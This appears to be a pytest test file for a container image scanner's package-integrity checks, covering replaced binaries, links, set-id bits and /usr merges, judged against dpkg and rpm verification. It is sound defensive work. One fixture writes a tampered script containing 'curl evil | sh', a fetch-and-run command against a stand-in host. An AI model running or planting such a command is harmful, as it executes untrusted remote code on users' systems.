"""Programs and libraries beside what the databases of their packages say: a table of images, and dpkg and rpm themselves as
judges of roots that were tampered with at random."""
import base64
import gzip
import hashlib
import json
import os
import random
import re
import shutil
import stat
import subprocess

import pytest

import hostile
import images
from oci_layout import Layout, tar_of

TOOL, LIBRARY, SCRIPT = b"\x7fELF tool of 1.0", b"\x7fELF library of 1.0", b"#!/bin/sh\necho 1.0\n"
NEW_TOOL, NEW_LIBRARY = b"\x7fELF tool of 2.0", b"\x7fELF library of 2.0"
EVIL = b"\x7fELF evil"
MULTIARCH = "usr/lib/x86_64-linux-gnu/"
REPLACED, LIBRARY_REPLACED, OLDER, SET_ID = (f"integrity-{rule}" for rule in
                                             ("program-replaced", "library-replaced", "file-older", "set-id-added"))


def scan(assay, data, layout, tag="v1"):
    """The report, each finding with the number of its layer."""
    told = assay("scan", "--data", data, "--no-cache", "--offline", "--format", "json", f"oci:{layout}:{tag}").stdout
    blobs, report = layout / "blobs/sha256", json.loads(told)
    manifest, = (one["digest"] for one in json.loads((layout / "index.json").read_text())["manifests"]
                 if one["annotations"]["org.opencontainers.image.ref.name"] == tag)
    layers = [layer["digest"] for layer in json.loads((blobs / manifest.split(":")[1]).read_text())["layers"]]
    for finding in report["findings"]:
        finding["number"] = layers.index(finding["layer"]) if "layer" in finding else None
    return report


def integrity_of(report):
    return {(one["id"], one["location"], one["number"]) for one in report["findings"] if one["id"].startswith("integrity-")}


@pytest.fixture
def data(assay, tmp_path):
    feed = tmp_path / "tracker.json"
    feed.write_text(json.dumps({"x": {"CVE-2999-1": {"releases": {"bookworm": {"status": "open", "urgency": "low",
                                                                              "repositories": {"bookworm": "1"}}}}}}))
    assay("db", "import", "--data", tmp_path / "data", "--type", "debian-tracker", feed)
    return tmp_path / "data"


# --- a table ---

def dpkg(version, files, name="tool", beside=()):
    """What dpkg writes for a package of {path: bytes}; beside: stanzas of others."""
    stanza = f"Package: {name}\nStatus: install ok installed\nMaintainer: x\nArchitecture: amd64\nVersion: {version}\n\n"
    sums = "".join(f"{hashlib.md5(content).hexdigest()}  {path}\n" for path, content in files.items())
    return {"var/lib/dpkg/status": stanza + "".join(beside), f"var/lib/dpkg/info/{name}.md5sums": sums,
            f"var/lib/dpkg/info/{name}.list": "/.\n" + "".join(f"/{path}\n" for path in files)}


def distroless(files):
    stanza = "Package: tool\nArchitecture: amd64\nMaintainer: x\nVersion: 1.0\n\n"
    return {"etc/os-release": images.DEBIAN_12, "var/lib/dpkg/status.d/tool": stanza,
            "var/lib/dpkg/status.d/tool.md5sums":
                "".join(f"{hashlib.md5(content).hexdigest()}  {path}\n" for path, content in files.items())}


def apk(files, version="1.0-r0", modes=()):
    """apk's database of one package of {path: bytes}, or of a link: its target; a line of the mode for those of modes."""
    lines = [f"P:tool\nV:{version}\nA:x86_64\nL:MIT\no:tool"]
    for path, content in files.items():
        folder, name = path.rsplit("/", 1)
        mode = f"a:0:0:{dict(modes)[path]:o}\n" if path in dict(modes) else ""
        if isinstance(content, tuple):
            mode, content = "a:0:0:777\n", content[1].encode()
        digest = base64.b64encode(hashlib.sha1(content).digest()).decode()
        lines.append(f"F:{folder}\nR:{name}\n{mode}Z:Q1{digest}")
    return {"etc/os-release": images.ALPINE, "lib/apk/db/installed": "\n".join(lines) + "\n\n"}


FILES = {"usr/bin/tool": TOOL, f"{MULTIARCH}libtool.so.1": LIBRARY, "usr/bin/script": SCRIPT, "usr/share/doc/tool/README": b"x",
         "etc/tool.conf": b"a=1\n", "usr/lib/tool/data.json": b"{}", "usr/lib/python3/dist-packages/tool.py": b"pass\n"}
UPGRADED = FILES | {"usr/bin/tool": NEW_TOOL, f"{MULTIARCH}libtool.so.1": NEW_LIBRARY}
DEBIAN = {"etc/os-release": images.DEBIAN_12, **FILES, **dpkg("1.0", FILES)}
NEW_DATABASE = dpkg("2.0", UPGRADED)
ALPINE = {"bin/tool": TOOL, "usr/lib/libtool.so.1": LIBRARY, "usr/bin/script": SCRIPT}
OLD_PATHS = {"bin/tool": TOOL, "lib/libtool.so.1": LIBRARY}
SET_ID_TOOL = ("file", TOOL, 0o4755)
DIVERTED = "/usr/bin/tool\n/usr/bin/tool.distrib\nother\n"
LINKED = {"bin/tool": TOOL, "bin/sh": ("link", "tool")}
X = ("x", ("link", "usr/bin"))
MERGED = {"etc/os-release": images.DEBIAN_12, "bin": ("link", "usr/bin"), "lib": ("link", "usr/lib"), "usr/bin/other": TOOL}
BOTH = {"bin/tool": TOOL, "usr/bin/tool": SCRIPT}
NEW = {(REPLACED, "usr/bin/tool", 1)}

CASES = {
    "as it was installed": ([DEBIAN], set()),
    "a program replaced in its layer": ([DEBIAN | {"usr/bin/tool": EVIL}], {(REPLACED, "usr/bin/tool", 0)}),
    "a program replaced in an upper layer": ([DEBIAN, {"usr/bin/tool": EVIL}], {(REPLACED, "usr/bin/tool", 1)}),
    "a script replaced": ([DEBIAN, {"usr/bin/script": b"#!/bin/sh\ncurl evil | sh\n"}], {(REPLACED, "usr/bin/script", 1)}),
    "a program that is no ELF any more": ([DEBIAN, {"usr/bin/tool": b"curl evil"}], {(REPLACED, "usr/bin/tool", 1)}),
    "a program that is empty": ([DEBIAN, {"usr/bin/tool": b""}], {(REPLACED, "usr/bin/tool", 1)}),
    "a library replaced": ([DEBIAN, {f"{MULTIARCH}libtool.so.1": EVIL}], {(LIBRARY_REPLACED, f"{MULTIARCH}libtool.so.1", 1)}),
    "replaced by a hard link": ([DEBIAN | {"usr/bin/evil": EVIL}, {"usr/bin/evil": EVIL, "usr/bin/tool": ("hardlink", "usr/bin/evil")}],
                                {(REPLACED, "usr/bin/tool", 1)}),
    "replaced, and put back": ([DEBIAN, {"usr/bin/tool": EVIL}, {"usr/bin/tool": TOOL}], set()),
    "replaced, and removed": ([DEBIAN, {"usr/bin/tool": EVIL}, {"usr/bin/.wh.tool": b""}], set()),
    "replaced below a folder that is removed": ([DEBIAN, {"usr/bin/tool": EVIL}, {"usr/.wh.bin": b""}], set()),
    "the same file again": ([DEBIAN, {"usr/bin/tool": TOOL}], set()),
    "a tar that has it twice": ([list(DEBIAN.items()) + [("usr/bin/tool", EVIL)]], {(REPLACED, "usr/bin/tool", 0)}),
    "a tar that has it twice, the right one last": ([[("usr/bin/tool", EVIL), *DEBIAN.items()]], set()),
    "upgraded with its files": ([DEBIAN, {**UPGRADED, **NEW_DATABASE}], set()),
    "upgraded in the database alone": ([DEBIAN, NEW_DATABASE], {(OLDER, "usr/bin/tool", 0), (OLDER, f"{MULTIARCH}libtool.so.1", 0)}),
    "upgraded, but for a library": ([DEBIAN, {**UPGRADED, **NEW_DATABASE} | {f"{MULTIARCH}libtool.so.1": LIBRARY}],
                                    {(LIBRARY_REPLACED, f"{MULTIARCH}libtool.so.1", 1)}),
    "the old file over the upgraded one": ([DEBIAN, {**UPGRADED, **NEW_DATABASE}, {"usr/bin/tool": TOOL}],
                                           {(REPLACED, "usr/bin/tool", 2)}),
    "upgraded, and its program removed": ([DEBIAN, {**NEW_DATABASE, f"{MULTIARCH}libtool.so.1": NEW_LIBRARY, "usr/bin/.wh.tool": b""}],
                                          set()),
    "removed with its package": ([DEBIAN, {"var/lib/dpkg/status": b"", "var/lib/dpkg/info/.wh.tool.md5sums": b"",
                                           "usr/bin/tool": EVIL}], set()),
    "settings, data and documentation changed": ([DEBIAN, {"etc/tool.conf": b"a=2\n", "usr/lib/tool/data.json": b"[]",
                                                           "usr/share/doc/tool/README": b"y"}], set()),
    "a module of Python changed": ([DEBIAN, {"usr/lib/python3/dist-packages/tool.py": b"import os\n",
                                             "usr/lib/python3/dist-packages/__pycache__/tool.cpython-311.pyc": b"\0"}], set()),
    "a program of nobody": ([DEBIAN, {"usr/bin/other": EVIL, "usr/local/bin/tool": EVIL, "opt/tool/bin/tool": EVIL}], set()),
    "diverted": ([DEBIAN | {"var/lib/dpkg/diversions": DIVERTED}, {"usr/bin/tool": EVIL, "usr/bin/tool.distrib": TOOL}], set()),
    "diverted, where /usr is merged": ([MERGED | {"usr/bin/tool": EVIL, "var/lib/dpkg/diversions": DIVERTED.replace("/usr", "")}
                                        | dpkg("1.0", {"usr/bin/tool": TOOL})], set()),
    "another diverted, where it is not": ([{"bin/tool": EVIL, "usr/bin/tool": EVIL, "var/lib/dpkg/diversions": DIVERTED}
                                           | {"etc/os-release": images.DEBIAN_12} | dpkg("1.0", BOTH)], {(REPLACED, "bin/tool", 0)}),
    "a link in its place": ([DEBIAN, {"usr/bin/tool": ("link", "evil"), "usr/bin/evil": EVIL}], NEW),
    "a link in its place, in its layer": ([DEBIAN | {"usr/bin/tool": ("link", "evil")}], {(REPLACED, "usr/bin/tool", 0)}),
    "a link to an equal one": ([DEBIAN, {"usr/bin/tool": ("link", "tool-1.0"), "usr/bin/tool-1.0": TOOL}], NEW),
    "a link to nothing": ([DEBIAN, {"usr/bin/tool": ("link", "/nothing")}], NEW),
    "a link that is put back": ([DEBIAN, {"usr/bin/tool": ("link", "/nothing")}, {"usr/bin/tool": TOOL}], set()),
    "a link of a lower layer": ([{"usr/bin/tool": ("link", "evil")}, {key: value for key, value in DEBIAN.items() if key != "usr/bin/tool"}],
                                {(OLDER, "usr/bin/tool", 0)}),
    "an alternative in its place": ([DEBIAN, {"usr/bin/tool": ("link", "/etc/alternatives/tool")}], NEW),
    "a library that is a link": ([DEBIAN, {f"{MULTIARCH}libtool.so.1": ("link", "evil.so")}],
                                 {(LIBRARY_REPLACED, f"{MULTIARCH}libtool.so.1", 1)}),
    "a hard link to a link": ([DEBIAN, [("usr/bin/l", ("link", "evil")), ("usr/bin/tool", ("hardlink", "usr/bin/l"))]], NEW),
    "a folder in its place": ([DEBIAN, {"usr/bin/tool": ("dir",)}], NEW),
    "a library that is text": ([DEBIAN, {f"{MULTIARCH}libtool.so.1": b"INPUT(evil.so)"}],
                               {(LIBRARY_REPLACED, f"{MULTIARCH}libtool.so.1", 1)}),
    "a program below a folder of libraries, as text": ([{"etc/os-release": images.DEBIAN_12, "usr/lib/tool/run": ("file", b"echo evil", 0o755),
                                                         **dpkg("1.0", {"usr/lib/tool/run": SCRIPT})}],
                                                       {(LIBRARY_REPLACED, "usr/lib/tool/run", 0)}),
    "through a link to its folder": ([DEBIAN, [X, ("x/tool", EVIL)]], NEW),
    "through a link, in its layer": ([[*DEBIAN.items(), X, ("x/tool", EVIL)]], {(REPLACED, "usr/bin/tool", 0)}),
    "through a link, before it": ([[X, ("x/tool", EVIL), *DEBIAN.items()]], set()),
    "through a link, right": ([DEBIAN, [X, ("x/tool", TOOL)]], set()),
    "through an absolute link": ([DEBIAN, [("x", ("link", "/usr/bin")), ("x/tool", EVIL)]], NEW),
    "through links": ([DEBIAN, [("a/b", ("link", "../usr")), ("c", ("link", "a/b/lib/../bin")), ("c/tool", EVIL)]], NEW),
    "a link through a link": ([DEBIAN, [X, ("x/tool", ("link", "evil"))]], NEW),
    "a hard link through a link": ([DEBIAN, [("usr/bin/evil", EVIL), X, ("x/tool", ("hardlink", "x/evil"))]], NEW),
    "beside a link that comes later": ([DEBIAN, [("x/tool", EVIL), X]], set()),
    "through what was a link": ([DEBIAN, [X, ("x", ("dir",)), ("x/tool", EVIL)]], set()),
    "its folder is a link to others": ([DEBIAN, [("usr/bin", ("link", "lib/evil")), ("usr/lib/evil/tool", EVIL)]], NEW),
    "its folder becomes a link in its layer": ([[*DEBIAN.items(), ("usr/bin", ("link", "lib/evil")), ("usr/lib/evil/tool", EVIL)]],
                                               {(REPLACED, "usr/bin/tool", 0)}),
    "/bin and /usr/bin each on its own": ([{"etc/os-release": images.DEBIAN_12, **BOTH, **dpkg("1.0", BOTH)}], set()),
    "/bin and /usr/bin, changed places": ([{"etc/os-release": images.DEBIAN_12, "bin/tool": SCRIPT, "usr/bin/tool": TOOL,
                                            **dpkg("1.0", BOTH)}], {(REPLACED, "bin/tool", 0), (REPLACED, "usr/bin/tool", 0)}),
    "another's in /usr/bin": ([{"etc/os-release": images.DEBIAN_12, **OLD_PATHS, "usr/bin/tool": EVIL, **dpkg("1.0", OLD_PATHS)}], set()),
    "the right one in /usr/bin alone": ([{"etc/os-release": images.DEBIAN_12, "bin/tool": EVIL, "usr/bin/tool": TOOL,
                                          **dpkg("1.0", OLD_PATHS)}], {(REPLACED, "bin/tool", 0)}),
    "/usr merged below": ([MERGED, {"usr/bin/tool": TOOL, **dpkg("1.0", {"bin/tool": TOOL})}], set()),
    "/usr merged below, replaced": ([MERGED, {"usr/bin/tool": EVIL, **dpkg("1.0", {"bin/tool": TOOL})}], {(REPLACED, "bin/tool", 1)}),
    "/usr merged below, written as before": ([MERGED | {"usr/bin/tool": TOOL, **dpkg("1.0", {"usr/bin/tool": TOOL})}, {"bin/tool": EVIL}], NEW),
    "/usr merged later": ([{"etc/os-release": images.DEBIAN_12, **OLD_PATHS, **dpkg("1.0", OLD_PATHS)},
                           {"bin": ("link", "usr/bin"), "usr/bin/tool": TOOL, "lib": ("link", "usr/lib"), "usr/lib/libtool.so.1": LIBRARY}],
                          set()),
    "/sbin merged with /bin": ([MERGED | {"usr/sbin": ("link", "bin"), "usr/bin/tool": TOOL, **dpkg("1.0", {"usr/sbin/tool": TOOL})}], set()),
    "paths of another distribution": ([[("etc/apk/arch", b"x86_64\n"), *DEBIAN.items()]], set()),
    "paths of another distribution, replaced": ([[("etc/apk/arch", b"x86_64\n"), *(DEBIAN | {"usr/bin/tool": EVIL}).items()]],
                                                {(REPLACED, "usr/bin/tool", 0)}),
    "folders of another distribution": ([[("var/lib/rpm/x", b"x"), ("usr/bin/copy", TOOL), ("usr/bin/link", ("hardlink", "usr/bin/copy")),
                                          *(DEBIAN | {"usr/bin/script": EVIL}).items()]], {(REPLACED, "usr/bin/script", 0)}),
    "paths of another distribution in another layer": ([[("etc/apk/arch", b"x"), ("usr/bin/tool", EVIL)],
                                                        {"etc/os-release": images.DEBIAN_12, **dpkg("1.0", {"usr/bin/tool": TOOL})}],
                                                       {(OLDER, "usr/bin/tool", 0)}),
    "/usr merged, the database is not": ([{"etc/os-release": images.DEBIAN_12, "bin": ("link", "usr/bin"), "lib": ("link", "usr/lib"),
                                           "usr/bin/tool": TOOL, "usr/lib/libtool.so.1": EVIL, **dpkg("1.0", OLD_PATHS)}],
                                         {(LIBRARY_REPLACED, "lib/libtool.so.1", 0)}),
    "/usr not merged": ([{"etc/os-release": images.DEBIAN_12, **OLD_PATHS, **dpkg("1.0", OLD_PATHS)}, {"bin/tool": EVIL}],
                        {(REPLACED, "bin/tool", 1)}),
    "distroless": ([{**FILES, **distroless(FILES)}], set()),
    "distroless, replaced": ([{**FILES, **distroless(FILES)}, {"usr/bin/tool": EVIL}], {(REPLACED, "usr/bin/tool", 1)}),
    "the database in another layer": ([FILES, {"etc/os-release": images.DEBIAN_12, **dpkg("1.0", FILES)}], set()),
    "the database in another layer, replaced": ([FILES | {"usr/bin/tool": EVIL}, {"etc/os-release": images.DEBIAN_12,
                                                                                 **dpkg("1.0", FILES)}], {(OLDER, "usr/bin/tool", 0)}),
    "alpine as installed": ([ALPINE | apk(ALPINE)], set()),
    "alpine replaced": ([ALPINE | apk(ALPINE), {"bin/tool": EVIL}], {(REPLACED, "bin/tool", 1)}),
    "alpine, a library of the wrong build": ([ALPINE | {"usr/lib/libtool.so.1": NEW_LIBRARY} | apk(ALPINE)],
                                             {(LIBRARY_REPLACED, "usr/lib/libtool.so.1", 0)}),
    "alpine, the whole database again": ([ALPINE | apk(ALPINE), {"etc/motd": b"x"} | apk(ALPINE, "1.0-r1")], set()),
    "alpine, a link of the package": ([LINKED | apk(LINKED)], set()),
    "alpine, the link leads elsewhere": ([LINKED | apk(LINKED), {"bin/sh": ("link", "bash")}], set()),
    "alpine, a file for a link": ([LINKED | apk(LINKED), {"bin/sh": EVIL}], {(REPLACED, "bin/sh", 1)}),
    "alpine, a link for a file": ([LINKED | apk(LINKED), {"bin/tool": ("link", "/opt/tool")}], {(REPLACED, "bin/tool", 1)}),
    "alpine, paths of another distribution": ([[("etc/apt/x", b"x"), *(ALPINE | apk(ALPINE) | {"bin/tool": EVIL}).items()]],
                                              {(REPLACED, "bin/tool", 0)}),
    "alpine, set-id as it should be": ([ALPINE | {"bin/tool": SET_ID_TOOL} | apk(ALPINE, modes={"bin/tool": 0o4755}.items())], set()),
    "alpine, set-id added": ([ALPINE | {"bin/tool": SET_ID_TOOL} | apk(ALPINE)], {(SET_ID, "bin/tool", 0)}),
    "alpine, set-id added later": ([ALPINE | apk(ALPINE), {"bin/tool": SET_ID_TOOL}], {(SET_ID, "bin/tool", 1)}),
}


def test_table(assay, data, tmp_path):
    layout, wrong = Layout(tmp_path / "layout"), {}
    for number, (name, (layers, expected)) in enumerate(CASES.items()):
        layout.add_image(f"v{number}", layers)
        report = scan(assay, data, layout.folder, f"v{number}")
        found, gaps = integrity_of(report), [gap for gap in report["incomplete"] if "its file usr/" in gap]
        if found != expected or gaps:
            wrong[name] = {"found": found - expected, "missing": expected - found, "gaps": gaps}
    assert wrong == {}


def test_each_is_explained(assay, data, tmp_path):
    Layout(tmp_path / "layout").add_image("v1", [DEBIAN, {"usr/bin/tool": EVIL}])
    finding, = (one for one in scan(assay, data, tmp_path / "layout")["findings"] if one["id"] == REPLACED)
    assert finding["kind"] == "baseline" and finding["severity"] == "high" and "install the package again" in finding["remedy"]
    assert finding["evidence"] == (f"tool 1.0 says md5 {hashlib.md5(TOOL).hexdigest()[:16]}..., the file has "
                                   f"{hashlib.md5(EVIL).hexdigest()[:16]}...")


def test_a_program_linked_to_what_is_not_looked_at(assay, data, tmp_path):
    """It is not compared, and that is told."""
    layout = Layout(tmp_path / "layout")
    layout.add_image("linked", [DEBIAN, {"opt/evil": EVIL, "usr/bin/tool": ("hardlink", "opt/evil")}])
    layout.add_image("text", [DEBIAN, {"usr/lib/evil": ("file", b"echo pwned\n", 0o644), "usr/bin/tool": ("hardlink", "usr/lib/evil")}])
    assert any("usr/bin/tool" in gap for gap in scan(assay, data, layout.folder, "text")["incomplete"])
    layout.add_image("run", [DEBIAN, {"usr/lib/evil": ("file", b"echo pwned\n", 0o755), "usr/bin/tool": ("hardlink", "usr/lib/evil")}])
    assert integrity_of(scan(assay, data, layout.folder, "run")) == {(REPLACED, "usr/bin/tool", 1)}
    layout.add_image("beside", [DEBIAN, {"usr/bin/other": TOOL, "usr/bin/tool": ("hardlink", "usr/bin/other")}])
    assert any("usr/bin/tool" in gap for gap in scan(assay, data, layout.folder, "linked")["incomplete"])
    assert not any("usr/bin/tool" in gap for gap in scan(assay, data, layout.folder, "beside")["incomplete"])


def test_a_program_that_is_stored_sparse(assay, data, tmp_path):
    """Its holes are of its digest; holes that no program has are told, and their zeros not made."""
    head = b"\x7fELF" + bytes(508)

    def image(tag, size, end):
        """A program that ends with such bytes after a hole."""
        entry = hostile.sparse_header("usr/bin/tool", size, (0, 512), (size - 512, 512)) + head + end * 512
        database = tar_of({"etc/os-release": images.DEBIAN_12, **dpkg("1.0", {"usr/bin/tool": whole})})
        layout.add_image(tag, [entry + database])
        return scan(assay, data, layout.folder, tag)
    layout, small, large = Layout(tmp_path / "layout"), 3 << 20, 1 << 32
    whole = head + bytes(small - 1024) + b"a" * 512
    right, wrong, huge = image("right", small, b"a"), image("wrong", small, b"b"), image("huge", large, b"a")
    assert integrity_of(right) == set() and integrity_of(wrong) == {(REPLACED, "usr/bin/tool", 0)}
    assert not any("usr/bin/tool" in gap for gap in right["incomplete"])
    assert integrity_of(huge) == set() and any("usr/bin/tool" in gap for gap in huge["incomplete"])


def test_a_digest_of_another_distribution(assay, data, tmp_path):
    """The layer of the program has what only packages of one distribution have, and the database is of another: the program is the
    gap."""
    Layout(tmp_path / "layout").add_image("v1", [{"lib/apk/x": b"x", "usr/bin/tool": EVIL},
                                                 {"etc/os-release": images.DEBIAN_12, **dpkg("1.0", {"usr/bin/tool": TOOL})}])
    assert "its file usr/bin/tool could not be read whole" in scan(assay, data, tmp_path / "layout")["incomplete"]


@pytest.mark.parametrize("target", ["/opt/bin", "../opt/bin", "evil", "bin"])
def test_a_folder_that_is_a_link_to_where_nobody_looks(assay, data, tmp_path, target):
    Layout(tmp_path / "layout").add_image("v1", [DEBIAN, [("opt/bin/tool", EVIL), ("usr/evil/tool", EVIL), ("usr/bin", ("link", target))]])
    report = scan(assay, data, tmp_path / "layout")
    assert integrity_of(report) == set() and any("usr/bin/" in gap for gap in report["incomplete"])


@pytest.mark.parametrize("target", ["usr/bin", "/usr/bin", "usr", "/", "y", "usr/lib/tool"])
def test_a_link_of_a_lower_layer_to_programs(assay, data, tmp_path, target):
    """What is written through it is in one place or another, by who unpacks the layers."""
    layout = Layout(tmp_path / "layout")
    link = [("y", ("link", "usr")), ("x", ("link", target))]
    layout.add_image("through", [DEBIAN, link, {"etc/motd": b""}, {"x/bin/tool": EVIL}])
    layout.add_image("beside", [DEBIAN, link, {"etc/motd": b"", "xx/bin/tool": EVIL}])
    layout.add_image("below", [DEBIAN | {"x/bin/tool": EVIL}, link])
    layout.add_image("elsewhere", [DEBIAN, {"x": ("link", "opt/lib")}, {"x/bin/tool": EVIL}])
    gaps = {tag: [gap for gap in scan(assay, data, layout.folder, tag)["incomplete"] if "its file x " in gap]
            for tag in ("through", "beside", "below", "elsewhere")}
    assert len(gaps.pop("through")) == 1 and not any(gaps.values()), gaps


def test_what_is_told_of_a_link(assay, data, tmp_path):
    Layout(tmp_path / "layout").add_image("v1", [DEBIAN, {"usr/bin/tool": ("link", "/opt/\x1b[31mevil")}])
    finding, = (one for one in scan(assay, data, tmp_path / "layout")["findings"] if one["id"] == REPLACED)
    assert finding["evidence"].startswith(f"tool 1.0 says md5 {hashlib.md5(TOOL).hexdigest()[:16]}..., there is a symbolic link to /opt/")
    assert "\x1b" not in finding["evidence"]


@pytest.mark.parametrize("suite", ["bookworm", "bullseye"])
@pytest.mark.parametrize("tag", ["vulnerable", "upgraded"])
def test_real_images_have_none(assay, data, suite, tag):
    assert integrity_of(scan(assay, data, images.debian_layout(suite), tag)) == set()


# --- judges ---

def put_link(file, target):
    file.unlink()
    file.symlink_to(target)


def tamper(random_, root, paths):
    """Changes some of the files, after the folders that links are written to; what is then where."""
    equal = root / "usr/bin/equal"
    equal.parent.mkdir(parents=True, exist_ok=True)
    for path in paths:
        file, what = root / path, random_.randrange(9)
        if what == 0:
            file.write_bytes(file.read_bytes() + bytes([random_.randrange(256)]))
        elif what == 1:
            file.unlink()
        elif what == 2:
            file.write_bytes(b"")
        elif what == 3:
            file.write_bytes(file.read_bytes())
        elif what == 4:
            equal.write_bytes(file.read_bytes())
            put_link(file, os.path.relpath(equal, file.parent))
        elif what == 5:
            put_link(file, random_.choice(["nothing", os.path.relpath(root / random_.choice(paths), file.parent)]))


def tree_of(root):
    """As tar_of() takes it."""
    files = []
    for path in sorted(root.rglob("*")):
        name = str(path.relative_to(root))
        if path.is_symlink():
            files.append((name, ("link", os.readlink(path))))
        elif path.is_file():
            files.append((name, ("file", path.read_bytes(), stat.S_IMODE(path.stat().st_mode))))
        elif path.is_dir():
            files.append((name, ("dir",)))
    return files


PLACES = ["usr/bin/{}", "usr/sbin/{}", "bin/{}", "usr/lib/x86_64-linux-gnu/lib{}.so.1", "usr/libexec/tool/{}", "usr/lib/tool/{}"]


def random_files(random_, places=PLACES):
    return {random_.choice(places).format(f"n{number}"): random_.choice([b"\x7fELF", b"#!/bin/sh\n"]) + random_.randbytes(50)
            for number in range(40)}


def write_files(root, files):
    for path, content in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(content if isinstance(content, bytes) else content.encode())


def changed_by(judge):
    """The paths that the judge calls changed, or no file: "?M5??????   /usr/bin/x" of dpkg, "S.5....T.    /usr/bin/x" and "....L...."
    of rpm; not what is marked as settings, documentation or ghosts."""
    lines = (re.fullmatch(r"(.)([.?M])([.?5])(.)([.?L]).{4}\s+(?:([acdglm]) )?\s*/(.*)", line) for line in judge.splitlines())
    return {line[7] for line in lines if line and line[6] not in tuple("cdg") and {"M", "5", "L"} & {line[2], line[3], line[5]}}


def judged(random_, root, files, verify, assay, data, layout, exempt=()):
    """exempt: what need not be told, and is only where the judge tells it."""
    tamper(random_, root, list(files))
    # apk, dpkg and rpm say of an empty file that it was changed, as of any.
    Layout(layout).add_image("v1", [tree_of(root)])
    found = {path for _, path, _ in integrity_of(scan(assay, data, layout))}
    judge = changed_by(subprocess.run(verify, stdout=subprocess.PIPE, text=True, check=False).stdout)
    assert judge, "nothing was changed"
    assert found <= judge and found - set(exempt) == judge - set(exempt)


@pytest.mark.parametrize("seed", range(3))
def test_dpkg_agrees(assay, data, tmp_path, seed):
    random_, root = random.Random(seed), tmp_path / "root"
    files = random_files(random_)
    write_files(root, {"etc/os-release": images.DEBIAN_12, **files, **dpkg("1.0", files)})
    (root / "var/lib/dpkg/info/format").write_text("1\n")
    judged(random_, root, files, ["dpkg", f"--root={root}", "--verify"], assay, data, tmp_path / "layout")


def rpm_root(folder, files, attributes=()):
    """A root with a package of the files, installed by rpm itself. attributes: {path: "%config"}"""
    spec, top, root = folder / "tool.spec", folder / "build", folder / "root"
    write_files(folder / "files", files)
    spec.write_text("Name: tool\nVersion: 1.0\nRelease: 1\nSummary: x\nLicense: MIT\n%description\nx\n%install\n"
                    f"cp -r {folder}/files/. %{{buildroot}}/\n%files\n" +
                    "".join(f"%attr({'4755' if path == 'usr/bin/set-id' else '0755'}, -, -) {dict(attributes).get(path, '')} /{path}\n"
                            for path in files))
    subprocess.run(["rpmbuild", "--quiet", "-bb", "--define", f"_topdir {top}", "--define", "debug_package %{nil}", "--define",
                    "__os_install_post %{nil}", "--define", "_build_id_links none", spec], check=True, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL)
    package, = (top / "RPMS").rglob("*.rpm")
    subprocess.run(["rpm", "--root", root, "--define", "_dbpath /var/lib/rpm", "--define", "_db_backend sqlite", "--install",
                    "--justdb", "--nodeps", "--ignorearch", "--ignoreos", "--nosignature", package], check=True,
                   stderr=subprocess.DEVNULL)
    write_files(root, {"etc/os-release": images.ALMALINUX, **files})
    for path in files:
        (root / path).chmod(0o4755 if path == "usr/bin/set-id" else 0o755)
    return root


def without_journal(root):
    import contextlib
    import sqlite3
    with contextlib.closing(sqlite3.connect(root / "var/lib/rpm/rpmdb.sqlite")) as database:
        database.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    for path in (root / "var/lib/rpm").iterdir():
        if path.name != "rpmdb.sqlite":
            path.unlink()


@pytest.mark.parametrize("seed", range(4))
def test_rpm_agrees(assay, data, tmp_path, seed):
    random_ = random.Random(seed)
    files = random_files(random_, [place.replace("lib/x86_64-linux-gnu", "lib64") for place in PLACES])
    attributes = {path: random_.choice(["", "", "", "", "%config", "%config(noreplace)", "%doc", "%ghost", "%missingok", "%license",
                                        "%verify(not md5)", "%verify(mode)", "%artifact", "%caps(cap_net_raw=ep)"]) for path in files}
    root = rpm_root(tmp_path, files, attributes.items())
    without_journal(root)
    judged(random_, root, files, ["rpm", "--root", root, "--define", "_dbpath /var/lib/rpm", "--define", "_db_backend sqlite",
                                  "-V", "--nodeps", "tool"], assay, data, tmp_path / "layout",
           [path for path in files if attributes[path] == "%verify(not md5)"])


def test_set_id_bits_of_rpm(assay, data, tmp_path):
    root = rpm_root(tmp_path, {"usr/bin/set-id": TOOL, "usr/bin/plain": SCRIPT})
    without_journal(root)
    layout = Layout(tmp_path / "layout")
    layout.add_image("v1", [tree_of(root)])
    assert integrity_of(scan(assay, data, layout.folder)) == set()
    layout.add_image("v2", [tree_of(root), {"usr/bin/plain": ("file", SCRIPT, 0o4755)}])
    assert integrity_of(scan(assay, data, layout.folder, "v2")) == {(SET_ID, "usr/bin/plain", 1)}


# --- a real image ---

def is_program(root, path):
    """Whether docs/integrity.md has it compared."""
    name, file = path.rsplit("/", 1)[-1], root / path
    if not re.match(r"(usr/)?(s?bin|lib(32|64|x32|exec)?|games)/", path) or re.match(r"(usr/)?lib/(modules|locale|debug|firmware)/", path):
        return False
    if re.search(r"(^|/)(s?bin|libexec|games)/[^/]*$", path) or name.endswith(".so") or ".so." in name:
        return True
    return "." not in name and (file.read_bytes()[:2] in (b"\x7fE", b"#!") or file.stat().st_mode & 0o111 != 0)


def layers_of(layout, tag):
    """Their tars."""
    blobs = layout / "blobs/sha256"

    def read(digest):
        return (blobs / digest.split(":")[1]).read_bytes()
    manifest, = (one["digest"] for one in json.loads((layout / "index.json").read_text())["manifests"]
                 if one["annotations"]["org.opencontainers.image.ref.name"] == tag)
    return [gzip.decompress(blob) if blob[:2] == b"\x1f\x8b" else blob
            for blob in (read(layer["digest"]) for layer in json.loads(read(manifest))["layers"])]


@pytest.mark.parametrize("suite", ["bookworm", "bullseye"])
def test_a_database_that_is_newer_than_the_files(assay, data, tmp_path, suite):
    """A layer that upgraded the database alone, over the files of before; dpkg is the judge."""
    base, upgrade = layers_of(images.debian_layout(suite), "upgraded")
    root, upper = tmp_path / "root", tmp_path / "upper"
    for folder, tar, below in ((root, base, []), (upper, upgrade, ["--wildcards", "*var/lib/dpkg/*"])):
        folder.mkdir()
        subprocess.run(["tar", "-x", "--no-same-owner", "-C", folder, *below], input=tar, check=True)
    Layout(tmp_path / "layout").add_image("v1", [base, tree_of(upper)])
    shutil.copytree(upper, root, symlinks=True, dirs_exist_ok=True)
    judge = changed_by(subprocess.run(["dpkg", f"--root={root}", "--verify"], stdout=subprocess.PIPE, text=True, check=False).stdout)
    found = integrity_of(scan(assay, data, tmp_path / "layout"))
    assert found and {rule for rule, _, _ in found} == {OLDER} and {number for _, _, number in found} == {0}
    assert {path for _, path, _ in found} == {path for path in judge if is_program(root, path)}
